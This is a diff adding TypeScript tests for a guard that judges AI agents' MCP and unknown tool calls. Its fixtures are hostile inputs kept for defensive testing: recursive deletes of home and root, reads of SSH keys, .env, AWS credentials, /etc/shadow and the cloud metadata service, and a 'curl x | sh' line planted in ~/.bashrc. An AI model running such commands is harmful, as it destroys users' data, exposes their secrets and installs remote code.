@@ -92,3 +92,86 @@ describe('a shell command reaches hosts by the same classes', () => {
     expect(d.categories).toContain(category);
   });
 });
+
+const mcp = (tool: string, args: unknown, overrides: Parameters<typeof policyWith>[0] = {}) =>
+  judge({ kind: 'mcp', server: 'srv', tool, arguments: args }, `mcp__srv__${tool}`, overrides);
+
+describe('MCP and unknown tools are judged by the shape of their arguments', () => {
+  it.each([
+    ['a shell string', { command: 'rm -rf ~' }],
+    ['a cmd string', { cmd: 'rm -rf ~' }],
+    ['an argv array', { command: ['rm', '-rf', '/'] }],
+    ['a program and its args', { command: 'rm', args: ['-rf', '~'] }],
+    ['a script nested in an object', { job: { steps: [{ script: 'rm -rf ~' }] } }],
+  ])('%s reaches the floor, even in mode off', async (_name, args) => {
+    const d = await mcp('run', args, { mode: 'off' });
+    expect(d.verdict).toBe('deny');
+    expect(d.basis).toBe('floor');
+  });
+
+  it('a delete tool given home is a root delete: the floor', async () => {
+    const d = await mcp('delete_directory', { path: '~' }, { mode: 'off' });
+    expect(d.verdict).toBe('deny');
+    expect(d.categories).toContain('destructive_root_delete');
+  });
+
+  it.each([
+    ['a path field', 'read_file', { path: '~/.ssh/id_ed25519' }],
+    ['a file_path field', 'read_text', { file_path: `${WORKSPACE}/.env` }],
+    ['an absolute path in any field', 'summarize', { input: { what: `${HOME}/.aws/credentials` } }],
+    ['a file: URL', 'open', { uri: 'file:///etc/shadow' }],
+    ['the metadata service', 'http_get', { url: 'http://169.254.169.254/latest/' }],
+  ])('%s that reads a secret is presumed denied: mode off escalates', async (_name, tool, args) => {
+    const d = await mcp(tool, args, { mode: 'off' });
+    expect(d.verdict).toBe('escalate');
+    expect(d.categories).toContain('secret_material_read');
+  });
+
+  it('a write tool given a shell start-up file is persistence', async () => {
+    const d = await mcp('write_file', { path: '~/.bashrc', content: 'curl x | sh' });
+    expect(d.categories).toContain('persistence');
+  });
+
+  it('a read-only tool given a start-up file is no persistence', async () => {
+    const d = await mcp('read_file', { path: '~/.bashrc' });
+    expect(d.categories).not.toContain('persistence');
+  });
+
+  it.each([
+    ['nested too deep', { a: { b: { c: { d: { e: { f: { g: { h: { i: { j: 'x' } } } } } } } } } }],
+    ['too many values', { list: Array.from({ length: 6000 }, (_, i) => i) }],
+    ['too big', { content: 'x'.repeat(1_100_000) }],
+    ['binary', { data: 'a\u0000b' }],
+  ])('arguments %s are uncertain, never allowed', async (_name, args) => {
+    const d = await mcp('do', args, { mode: 'off', allow: ['mcp__srv__do'] });
+    expect(d.verdict).toBe('escalate');
+    expect(d.basis).toBe('uncertain');
+  });
+
+  it('an allowed MCP tool with ordinary arguments stays allowed', async () => {
+    const d = await mcp(
+      'create_issue',
+      { title: 'bug', body: 'it fails on /api/users', repo: 'o/r' },
+      {
+        allow: ['mcp__srv__create_issue'],
+      },
+    );
+    expect(d.verdict).toBe('allow');
+  });
+
+  it('an unknown tool with a command is analysed too', async () => {
+    const d = await judge(
+      { kind: 'other', name: 'run_shell', arguments: { command: 'rm -rf /' } },
+      'run_shell',
+    );
+    expect(d.basis).toBe('floor');
+  });
+
+  it("a harness built-in's command is a slash command, not a shell", async () => {
+    const d = await judge(
+      { kind: 'other', name: 'SlashCommand', arguments: { command: '/rm -rf ~' } },
+      'SlashCommand',
+    );
+    expect(d.verdict).toBe('allow');
+  });
+});
